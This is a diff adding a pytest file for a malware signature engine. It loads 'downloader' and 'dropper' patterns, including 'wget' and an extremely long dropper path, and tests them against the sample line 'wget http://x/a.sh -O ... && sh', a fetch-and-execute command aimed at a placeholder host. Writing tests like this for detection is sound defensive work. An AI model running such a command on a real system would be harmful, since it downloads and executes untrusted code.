@@ -0,0 +1,13 @@
+# test_signatures.py — Signature files the engine must compile
+
+from signatures import SignatureEngine
+
+def test_long_pattern_loads_and_matches(tmp_path):
+    ioc = "/tmp/." + "x9f" * 600  # 1806 characters, deeper than the recursion limit
+    path = tmp_path / "signatures.txt"
+    path.write_text(f"downloader 0.9 wget\ndropper 0.95 {ioc}\ndropper 0.95 {ioc[:-1]}q\n", encoding="utf-8")
+
+    engine = SignatureEngine.load(str(path))
+    assert len(engine) == 3
+    assert [sig.pattern for sig in engine.match(f"wget http://x/a.sh -O {ioc.upper()} && sh")] == ["wget", ioc]
+    assert engine.match(ioc[:-1]) == []